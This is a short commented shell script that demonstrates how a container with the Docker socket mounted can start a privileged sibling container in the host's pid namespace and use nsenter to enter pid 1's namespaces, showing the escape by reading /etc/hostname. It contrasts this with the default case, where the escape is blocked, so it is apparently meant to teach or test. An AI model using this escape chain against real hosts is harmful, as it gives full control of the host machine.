# Escape precondition (no kernel bug needed): a container that can reach the
# Docker socket can ask the host's dockerd for a privileged sibling in the
# host's pid namespace, and from there enter pid 1's namespaces: the host.
# Blocked by default: without -v /var/run/docker.sock there is no daemon to ask.
docker pull alpine >/dev/null
echo "default:"
docker run --rm alpine docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u cat /etc/hostname
echo "with -v /var/run/docker.sock:/var/run/docker.sock:"
docker run --rm -v /var/run/docker.sock:/var/run/docker.sock alpine \
  docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u cat /etc/hostname
